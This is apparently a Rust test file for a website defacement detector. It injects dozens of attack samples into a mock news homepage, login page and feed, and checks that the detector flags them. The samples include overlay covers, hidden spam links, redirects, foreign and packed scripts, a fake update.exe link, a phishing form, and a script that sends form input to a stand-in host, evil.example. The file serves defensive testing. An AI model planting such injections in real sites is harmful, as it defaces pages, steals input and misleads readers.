//! What is an attack and what is the news: tables of pages of our own making, judged after an ordinary history.
#![allow(
    clippy::unwrap_used,
    clippy::format_collect,
    clippy::format_push_string,
    clippy::too_many_lines,
    clippy::type_complexity,
    reason = "tables of pages, put together as text; a test may panic"
)]

mod common;

use common::{Watch, feed, front, login};
use frontwatch_core::detect::Judged;
use frontwatch_core::observation::Headers;
use frontwatch_core::verdict::{Availability, Severity, Verdict};
use frontwatch_core::watch::{Expect, WatchKind};

type Change = fn(String) -> String;

fn in_body(what: &'static str) -> impl Fn(String) -> String {
    move |page| page.replacen("<body class=\"front\">", &format!("<body class=\"front\">{what}"), 1)
}

fn at_end(what: &'static str) -> impl Fn(String) -> String {
    move |page| page.replacen("</body>", &format!("{what}</body>"), 1)
}

fn kinds(judged: &Judged) -> Vec<&str> {
    judged.judgement.signals.iter().map(|signal| signal.kind.as_str()).collect()
}

/// (what, change to the tenth look, a kind of signal that names it)
fn attacks() -> Vec<(&'static str, Box<dyn Fn(String) -> String>, &'static str)> {
    let plain = |change: Change| -> Box<dyn Fn(String) -> String> { Box::new(change) };
    vec![
        (
            "a picture over everything",
            Box::new(in_body(
                "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\"><img src=\"/uploads/x.jpg\"></div>",
            )),
            "cover.picture",
        ),
        (
            "a text over everything",
            Box::new(in_body(
                "<section style=\"position:fixed;inset:0;z-index:9\"><h1>Hacked by nobody</h1></section>",
            )),
            "cover.element",
        ),
        (
            "a cover by a style rule",
            Box::new(in_body(
                "<style>#x9{position:fixed;top:0;bottom:0;left:0;right:0}</style><div id=x9><img src=//evil.example/a.png></div>",
            )),
            "cover.picture",
        ),
        (
            "a frame as large as the page",
            Box::new(in_body(
                "<iframe src=\"//evil.example/d\" style=\"position:fixed;width:100vw;height:100vh;top:0;left:0\"></iframe>",
            )),
            "cover.frame",
        ),
        (
            "a picture above the page, own host",
            Box::new(in_body("<center><img src=\"/img/p1.png\" width=\"100%\"></center>")),
            "image.top",
        ),
        (
            "a picture above the page, foreign host",
            Box::new(in_body("<p><img src=\"https://evil.example/p1.png\" width=\"900\"></p>")),
            "image.top",
        ),
        ("another logo", plain(|page| page.replace("/img/logo.svg", "https://evil.example/logo.png")), "image.logo"),
        (
            "one picture on all cards",
            plain(|page| {
                let mut parts = page.split("src=\"/img/").map(str::to_owned).collect::<Vec<_>>();
                for part in parts.iter_mut().skip(2) {
                    let end = part.find('"').unwrap();
                    part.replace_range(..end, "flag.jpg");
                }
                parts.join("src=\"/img/").replace("/img/flag.jpg", "https://evil.example/flag.jpg")
            }),
            "image.everywhere",
        ),
        (
            "a claim in the title",
            plain(|page| page.replace("<title>Outlet Daily - news of the day", "<title>H4cked  by Gh0st")),
            "wording.title",
        ),
        (
            "a script in the title",
            plain(|page| page.replace("</title>", "<script src=//evil.example/j.js></script></title>")),
            "title.markup",
        ),
        ("a claim above the page", Box::new(in_body("<h1>Sayt hack olundu!</h1>")), "wording.heading"),
        (
            "all headlines one message",
            plain(|page| {
                let mut out = String::new();
                for (at, part) in page.split("<h2>").enumerate() {
                    if at == 0 {
                        out.push_str(part);
                        continue;
                    }
                    let (_, rest) = part.split_once("</h2>").unwrap();
                    out.push_str(&format!("<h2>We were never gone</h2>{rest}"));
                }
                out
            }),
            "headline.same",
        ),
        (
            "all links elsewhere",
            plain(|page| page.replace("href=\"/", "href=\"https://evil.example/")),
            "link.hijacked",
        ),
        (
            "hidden links",
            Box::new(at_end(
                "<div style=\"position:absolute;left:-9999px\"><a href=https://pills.example>a</a><a href=https://bets.example>b</a></div>",
            )),
            "link.hidden",
        ),
        (
            "a block of links",
            Box::new(at_end(
                "<a href=https://pills.example/a>cheap</a> <a href=https://bets.example/b>win</a> <a href=https://loans.example/c>now</a>",
            )),
            "link.block",
        ),
        (
            "a foreign script at the end",
            Box::new(at_end("<script src=\"https://evil.example/x.js\"></script>")),
            "source.script",
        ),
        (
            "a foreign script in a headline",
            plain(|page| page.replacen("<h2>", "<h2><script src=https://evil.example/x.js></script>", 1)),
            "source.script",
        ),
        (
            "a hidden foreign frame",
            Box::new(at_end("<iframe src=\"http://evil.example/\" width=1 height=1></iframe>")),
            "source.frame",
        ),
        (
            "a script from an open host",
            Box::new(at_end("<script src=\"https://x.github.io/x.js\"></script>")),
            "source.script",
        ),
        (
            "the document rewritten",
            Box::new(at_end("<script>document.documentElement.innerHTML=atob('PGgxPg==')</script>")),
            "script.replaces",
        ),
        (
            "a packed script",
            Box::new(at_end("<script>eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script>")),
            "script.packed",
        ),
        (
            "a script that reads fields",
            Box::new(at_end(
                "<script>setInterval(function(){var inputs=document.querySelectorAll('input, select');var x=new XMLHttpRequest();x.open('POST','//evil.example/c');x.send(inputs[0].value)},900)</script>",
            )),
            "script.reads",
        ),
        (
            "a script that sends readers away",
            Box::new(at_end("<script>if(!document.cookie){window.location.href='https://evil.example/win'}</script>")),
            "script.redirects",
        ),
        (
            "code in an event handler",
            Box::new(in_body("<img src=x onerror=\"document.documentElement.innerHTML=atob('PGgxPg==')\">")),
            "script.replaces",
        ),
        (
            "a refresh to elsewhere",
            plain(|page| {
                page.replace("<head>", "<head><meta http-equiv=refresh content=\"2;URL='http://evil.example/'\">")
            }),
            "source.refresh",
        ),
        (
            "a foreign base",
            plain(|page| page.replace("<head>", "<head><base href=\"https://evil.example/\">")),
            "source.base",
        ),
        (
            "most of the page wiped",
            plain(|page| {
                let (start, rest) = page.split_once("<nav>").unwrap();
                let (_, end) = rest.split_once("</footer>").unwrap();
                format!("{start}<p>nothing here any more</p>{end}")
            }),
            "collapse.page",
        ),
        (
            "a dialogue over everything",
            Box::new(in_body(
                "<dialog open style=\"width:100%;height:100%\"><h2>Remember this day, all of you</h2></dialog>",
            )),
            "cover.element",
        ),
        (
            "a box as high as the view",
            Box::new(in_body("<div style=\"height:100vh;background:#a00\">Remember this day</div>")),
            "cover.pushed",
        ),
        (
            "words that a rule makes up",
            Box::new(at_end("<style>body::before{content:\"Remember this day\";display:block}</style>")),
            "cover.made-up",
        ),
        (
            "one picture in the place of all by a rule",
            Box::new(at_end("<style>img{content:url(/img/flag.png)!important}</style>")),
            "cover.made-up",
        ),
        (
            "all but one thing hidden",
            Box::new(at_end("<style>body > *:not(#z){visibility:hidden}</style><b id=z>x</b>")),
            "cover.hidden",
        ),
        (
            "the part with the stories hidden",
            Box::new(at_end("<style>.stories{clip-path:circle(0)}</style>")),
            "cover.hidden",
        ),
        (
            "a sheet of glass that leads elsewhere",
            Box::new(at_end("<a href=\"https://evil.example/\" style=\"position:fixed;inset:0\"></a>")),
            "cover.element",
        ),
        (
            "a frame of the page's own over everything",
            Box::new(in_body("<iframe src=\"/uploads/a.html\" style=\"position:fixed;inset:0\"></iframe>")),
            "cover.frame",
        ),
        ("words above the page", Box::new(in_body("<p>The truth will come to light soon</p>")), "text.placed"),
        (
            "hidden words for robots",
            Box::new(|page: String| {
                let words = "cheap watches and pills ".repeat(30);
                page.replace("</footer>", &format!("<div style=\"height:0;overflow:hidden\">{words}</div></footer>"))
            }),
            "text.buried",
        ),
        (
            "hidden links of its own",
            Box::new(|page: String| {
                let links: String = (0..12).map(|n| format!("<a href=/x/?casino={n}>casino {n}</a> ")).collect();
                page.replace("</footer>", &format!("<div style=display:none>{links}</div></footer>"))
            }),
            "link.buried",
        ),
        (
            "a title that names nobody",
            plain(|page| page.replace("<title>Outlet Daily - news of the day", "<title>Remember this")),
            "title.replaced",
        ),
        (
            "another title where it is shared",
            plain(|page| page.replace("</head>", "<meta property=\"og:title\" content=\"Remember this\"></head>")),
            "title.card",
        ),
        (
            "one text for all pictures",
            plain(|page| page.replace("alt=\"\"", "alt=\"Remember this day\"")),
            "image.words",
        ),
        (
            "one picture offered instead of all",
            plain(|page| page.replace("<img class=\"thumb\"", "<img class=\"thumb\" srcset=\"/img/flag.png 2x\"")),
            "image.everywhere",
        ),
        (
            "all pictures from one stranger",
            plain(|page| page.replace("src=\"/img/", "src=\"https://evil.example/img/")),
            "image.exchanged",
        ),
        (
            "the sections' words lead elsewhere",
            plain(|page| {
                ["politics", "economy", "world", "culture"].iter().fold(page, |page, section| {
                    page.replace(&format!("href=\"/{section}\""), &format!("href=\"https://evil.example/{section}\""))
                })
            }),
            "link.redirected",
        ),
        (
            "a program to download",
            Box::new(in_body(
                "<div class=bar>Out of date? <a href=\"https://evil.example/update.exe\">Update</a></div>",
            )),
            "link.program",
        ),
        (
            "links where no scripts run",
            Box::new(at_end(
                "<noscript><a href=https://pills.example>a</a><a href=https://bets.example>b</a></noscript>",
            )),
            "link.hidden",
        ),
        (
            "a refresh where no scripts run",
            plain(|page| {
                page.replace(
                    "<head>",
                    "<head><noscript><meta http-equiv=refresh content=\"0;url=//evil.example\"></noscript>",
                )
            }),
            "source.refresh",
        ),
        (
            "a refresh to another page of its own",
            plain(|page| page.replace("<head>", "<head><meta http-equiv=refresh content=\"0;url=/uploads/a.html\">")),
            "source.refresh",
        ),
        (
            "a foreign style sheet in the page",
            Box::new(at_end("<link rel=stylesheet href=//evil.example/t.css>")),
            "source.style",
        ),
        (
            "a style sheet that takes one in",
            Box::new(at_end("<style>@import url('//evil.example/t.css');</style>")),
            "source.style",
        ),
        (
            "a style sheet carried along",
            Box::new(at_end("<link rel=stylesheet href=\"data:text/css,body{display:none}\">")),
            "cover.hidden",
        ),
        ("a foreign icon", Box::new(at_end("<link rel=icon href=//evil.example/i.png>")), "source.icon"),
        (
            "a foreign page for small screens",
            plain(|page| page.replace("</head>", "<link rel=amphtml href=https://evil.example/a></head>")),
            "source.elsewhere",
        ),
        (
            "a script loaded from code",
            Box::new(at_end("<script>import('https://evil.example/m.js')</script>")),
            "script.new",
        ),
        (
            "a script carried along",
            Box::new(at_end(
                "<script src=\"data:text/javascript;base64,ZG9jdW1lbnQuYm9keS5pbm5lckhUTUw9JzxoMT54PC9oMT4n\"></script>",
            )),
            "script.replaces",
        ),
        (
            "a known script with a stranger in it",
            plain(|page| {
                page.replace(
                    "ga('create'",
                    "var s=document.createElement('script');s.src='//evil.example/g.js';ga('create'",
                )
            }),
            "script.new",
        ),
        (
            "a handler that runs by itself",
            Box::new(at_end("<details open ontoggle=\"eval(top.name)\"></details>")),
            "script.new",
        ),
        (
            "a script that hides the page",
            Box::new(at_end("<script>document.body.style.display='none'</script>")),
            "script.rewrites",
        ),
        (
            "a script that rewrites the headlines",
            Box::new(at_end(
                "<script>document.querySelectorAll('h2').forEach(function(e){e.textContent='Remember'})</script>",
            )),
            "script.rewrites",
        ),
        (
            "a script that stays",
            Box::new(at_end("<script>navigator.serviceWorker.register('/uploads/w.js')</script>")),
            "script.stays",
        ),
        (
            "a password asked for",
            Box::new(at_end("<form action=/x.php><input name=u><input type=password name=p></form>")),
            "login.added",
        ),
        (
            "the headlines emptied",
            plain(|page| {
                let mut parts = page.split("<h2>").map(str::to_owned).collect::<Vec<_>>();
                for part in parts.iter_mut().skip(1) {
                    let end = part.find("</h2>").unwrap();
                    part.replace_range(..end, "");
                }
                parts.join("<h2>")
            }),
            "lost.headings",
        ),
        (
            "not to be found any more",
            plain(|page| page.replace("<head>", "<head><meta name=robots content=noindex>")),
            "robots.noindex",
        ),
        (
            "written the other way",
            plain(|page| page.replace("<html lang=\"en\">", "<html lang=\"en\" dir=\"rtl\">")),
            "language.turned",
        ),
        ("sound by itself", Box::new(at_end("<audio src=/uploads/a.mp3 autoplay loop></audio>")), "sound.plays"),
        (
            "another page altogether",
            plain(|_| {
                "<html><head><title>x</title></head><body bgcolor=black><center><img src=a.jpg><br>see you</center></body></html>".to_owned()
            }),
            "takeover.page",
        ),
        ("only a claim", plain(|_| "<h1>Owned</h1>hacked by nobody in particular".to_owned()), "takeover.page"),
    ]
}

#[test]
fn attacks_alarm_and_say_why() {
    let watch = Watch::learned(WatchKind::Homepage, front, 9);
    for (what, change, kind) in attacks() {
        let page = change(front(9));
        assert_ne!(page, front(9), "{what}");
        let judged = watch.judge(&page);
        let judgement = &judged.judgement;
        assert_eq!(judgement.verdict, Verdict::Alarm, "{what}: {} {:?}", judgement.score, judgement.signals);
        assert_eq!(judgement.severity, Severity::Critical, "{what}");
        assert!(kinds(&judged).contains(&kind), "{what}: {:?}", kinds(&judged));
        for signal in &judgement.signals {
            assert!(
                !signal.before.is_empty() && !signal.after.is_empty(),
                "{what}: {} has no before or after",
                signal.kind
            );
            assert_eq!(signal.message.id, format!("signal-{}", signal.kind.replace('.', "-")), "{what}");
        }
    }
}

#[test]
fn the_news_does_not_alarm() {
    let watch = Watch::learned(WatchKind::Homepage, front, 9);
    let table: Vec<(&str, Box<dyn Fn(String) -> String>)> = vec![
        ("the next look", Box::new(|page| page)),
        (
            "a story about a hack",
            Box::new(|page| page.replacen("<h2>", "<h2>Ministry site hacked by unknown group: </h2><h2>", 1)),
        ),
        (
            "a breaking-news box",
            Box::new(in_body("<div class=\"breaking\"><a href=\"/live\">Breaking: bridge closed, live</a></div>")),
        ),
        ("a known company's script", Box::new(at_end("<script src=\"https://cdn.taboola.com/loader.js\"></script>"))),
        (
            "an advertising frame",
            Box::new(at_end("<iframe src=\"https://tpc.googlesyndication.com/a\" width=300 height=250></iframe>")),
        ),
        (
            "a video among the stories",
            Box::new(|page| {
                page.replacen(
                    "</article>",
                    "<iframe width=560 height=315 src=\"https://www.youtube.com/embed/x\"></iframe></article>",
                    1,
                )
            }),
        ),
        (
            "a mourning day in grey",
            Box::new(|page| {
                page.replace("<body class=\"front\">", "<body class=\"front\" style=\"filter:grayscale(1)\">")
            }),
        ),
        (
            "a new section",
            Box::new(|page| page.replace("</ul></nav>", "<li><a href=\"/elections\">elections</a></li></ul></nav>")),
        ),
        ("twenty new stories at once", Box::new(|_| front(29))),
        ("a refresh of itself", Box::new(|page| page.replace("<head>", "<head><meta http-equiv=refresh content=300>"))),
        ("a tracking pixel", Box::new(at_end("<img src=\"https://pixel.example/p.gif\" width=1 height=1>"))),
        (
            "a note with a link above the page",
            Box::new(in_body("<div class=note>Our offices are closed today. <a href=\"/closed\">More</a></div>")),
        ),
        (
            "a rule for paper",
            Box::new(at_end("<style>@media print{body > *{display:none}.stories{display:none}}</style>")),
        ),
        (
            "a rule that hides a small part",
            Box::new(at_end("<style>.clock{display:none}.modal{position:fixed;display:none}</style>")),
        ),
        ("an icon made up by a rule", Box::new(at_end("<style>.menu::before{content:\"\\e900\"}</style>"))),
        ("a muted video", Box::new(at_end("<video src=/v/1.mp4 autoplay muted></video>"))),
        (
            "another title of its own",
            Box::new(|page| page.replace("<title>Outlet Daily - news of the day", "<title>OUTLET: election night")),
        ),
        (
            "a new partner behind one link",
            Box::new(|page| page.replace("href=\"/imprint\"", "href=\"https://partner.example/imprint\"")),
        ),
        ("another style sheet version", Box::new(|page| page.replace("/css/site.css?v=9", "/css/site.css?v=abcdef"))),
    ];
    for (what, change) in table {
        let judged = watch.judge(&change(front(9)));
        assert_eq!(judged.judgement.verdict, Verdict::Normal, "{what}: {:?}", judged.judgement.signals);
    }
}

#[test]
fn what_cannot_be_seen_is_neither_well_nor_an_alarm() {
    let watch = Watch::learned(WatchKind::Homepage, front, 9);
    let headers = |name: &str, value: &str| Headers::new([(name.to_owned(), value.to_owned())]);
    let none = Headers::default();
    let challenge = headers("cf-mitigated", "challenge");
    let retry = headers("retry-after", "600");
    let table = [
        (502, &none, "<title>502 Bad Gateway</title><h1>502 Bad Gateway</h1>", Availability::Error),
        (404, &none, "<title>Not found</title>", Availability::Error),
        (503, &retry, "<title>Maintenance</title><p>Back soon", Availability::Maintenance),
        (200, &none, "<title>Scheduled maintenance</title><p>We are back soon", Availability::Maintenance),
        (403, &challenge, "<title>Just a moment...</title>", Availability::RobotCheck),
        (
            200,
            &none,
            "<title>Robot check</title><p>Enter the characters<img src=/captcha.png>",
            Availability::RobotCheck,
        ),
        (403, &none, "<title>403 Forbidden</title>", Availability::Refused),
        (429, &none, "<title>Too many requests</title>", Availability::Refused),
    ];
    for (status, headers, page, expected) in table {
        let judged = watch.judge_with(page, status, headers, common::HOST);
        assert_eq!(judged.judgement.verdict, Verdict::Inconclusive, "{page}: {:?}", judged.judgement.signals);
        assert_eq!(judged.judgement.availability, expected, "{page}");
        assert_eq!(kinds(&judged).len(), 1, "{page}");
    }
}

#[test]
fn an_error_status_hides_no_defacement() {
    let watch = Watch::learned(WatchKind::Homepage, front, 9);
    for status in [200, 403, 404, 500, 503] {
        let judged = watch.judge_with(
            "<title>ACCESS DENIED</title><h1>Hacked by nobody</h1>",
            status,
            &Headers::default(),
            common::HOST,
        );
        assert_eq!(judged.judgement.verdict, Verdict::Alarm, "{status}: {:?}", judged.judgement.signals);
    }
}

#[test]
fn a_page_that_is_hacked_when_first_seen_is_told_and_not_learned() {
    let mut watch = Watch::new(WatchKind::Homepage);
    for page in [
        "<title>Hacked by nobody</title><body>x</body>".to_owned(),
        in_body("<div style=\"position:fixed;inset:0\"><h1>hacked by nobody</h1></div>")(front(0)),
        front(0).replace("<head>", "<head><meta http-equiv=refresh content=\"0;url=https://evil.example/\">"),
    ] {
        let judged = watch.see(&page);
        assert_eq!(judged.judgement.verdict, Verdict::Alarm, "{:?}", judged.judgement.signals);
        assert_eq!(watch.baseline.looks(), 0);
    }
    assert_eq!(watch.see(&front(0)).judgement.verdict, Verdict::Learning);
}

#[test]
fn an_address_that_answers_from_elsewhere_alarms() {
    let watch = Watch::learned(WatchKind::Homepage, front, 5);
    let judged = watch.judge_with(&front(5), 200, &Headers::default(), "https://evil.example/");
    assert_eq!(judged.judgement.verdict, Verdict::Alarm);
    assert!(kinds(&judged).contains(&"redirect.foreign"));
    let judged = watch.judge_with(&front(5), 200, &Headers::default(), "https://www.outlet.example/en/");
    assert_eq!(judged.judgement.verdict, Verdict::Normal);
}

#[test]
fn login_pages_alarm_when_they_open_or_send_elsewhere() {
    let watch = Watch::learned(WatchKind::Admin, login, 4);
    let table: [(&str, Change, &str); 4] = [
        (
            "no password",
            |page| {
                page.replace("<label>Password <input type=\"password\" name=\"password\"></label>", "<p>Welcome, admin")
            },
            "login.open",
        ),
        (
            "form elsewhere",
            |page| page.replace("action=\"/admin/login\"", "action=\"http://evil.example/c.php\""),
            "source.form",
        ),
        (
            "new script",
            |page| page.replace("</body>", "<script src=\"https://evil.example/k.js\"></script></body>"),
            "source.script",
        ),
        (
            "cover",
            |page| {
                page.replace(
                    "<body class=\"login\">",
                    "<body class=\"login\"><div style=\"position:fixed;inset:0\"><img src=//evil.example/x.png></div>",
                )
            },
            "cover.picture",
        ),
    ];
    for (what, change, kind) in table {
        let judged = watch.judge(&change(login(4)));
        assert_eq!(judged.judgement.verdict, Verdict::Alarm, "{what}: {:?}", judged.judgement.signals);
        assert!(kinds(&judged).contains(&kind), "{what}: {:?}", kinds(&judged));
    }
    let message = login(4).replace("<label>Name", "<p class=\"message\">Your session has ended.</p><label>Name");
    assert_eq!(watch.judge(&message).judgement.verdict, Verdict::Normal);
}

#[test]
fn what_should_be_closed_is_normal_closed_and_an_alarm_open() {
    for (expect, status, verdict) in [
        (Expect::Denied, 403, Verdict::Normal),
        (Expect::Denied, 200, Verdict::Alarm),
        (Expect::Gone, 404, Verdict::Normal),
        (Expect::Gone, 200, Verdict::Alarm),
        (Expect::Login, 200, Verdict::Alarm),
    ] {
        let mut watch = Watch::new(WatchKind::Admin);
        watch.expect = Some(expect);
        let judged = watch.judge_with(
            "<title>Users</title><table><tr><td>editor</td></tr></table>",
            status,
            &Headers::default(),
            common::HOST,
        );
        assert_eq!(judged.judgement.verdict, verdict, "{expect:?} {status}");
    }
}

#[test]
fn feeds_alarm_when_stories_vanish_change_or_lead_elsewhere() {
    let watch = Watch::learned(WatchKind::Feed, feed, 6);
    let items = |keep: fn(usize) -> bool, change: fn(String) -> String| {
        let page = feed(6);
        let mut parts = page.split("<item>").map(str::to_owned).collect::<Vec<_>>();
        let head = parts.remove(0);
        let items: String = parts
            .into_iter()
            .enumerate()
            .filter(|(at, _)| keep(*at))
            .map(|(_, item)| change(format!("<item>{item}")))
            .collect();
        format!("{head}{items}")
    };
    let table = [
        ("a third is gone", items(|at| at % 3 != 1, |item| item), "feed.vanished"),
        (
            "titles rewritten",
            items(
                |_| true,
                |item| {
                    item.replace("<title>The", "<title>").replace("parliament", "zzz").replacen(
                        "<title>",
                        "<title>All your stories belong here</title><x>",
                        1,
                    )
                },
            ),
            "feed.retitled",
        ),
        (
            "links elsewhere",
            items(|_| true, |item| item.replace("https://outlet.example", "http://evil.example")),
            "feed.links",
        ),
        ("empty", items(|_| false, |item| item), "feed.empty"),
        (
            "a flood",
            feed(6).replacen(
                "<item>",
                &format!(
                    "{}<item>",
                    (0..60)
                        .map(|n| format!("<item><title>win {n}</title><link>https://outlet.example/w{n}</link></item>"))
                        .collect::<String>()
                ),
                1,
            ),
            "feed.flood",
        ),
    ];
    for (what, page, kind) in table {
        let judged = watch.judge(&page);
        assert_eq!(judged.judgement.verdict, Verdict::Alarm, "{what}: {:?}", judged.judgement.signals);
        assert!(kinds(&judged).contains(&kind), "{what}: {:?}", kinds(&judged));
    }
    for (what, page) in [
        ("one more", feed(6)),
        ("five more", feed(11)),
        ("headline edited", feed(6).replacen("and the", "meets the", 3)),
    ] {
        assert_eq!(watch.judge(&page).judgement.verdict, Verdict::Normal, "{what}");
    }
}
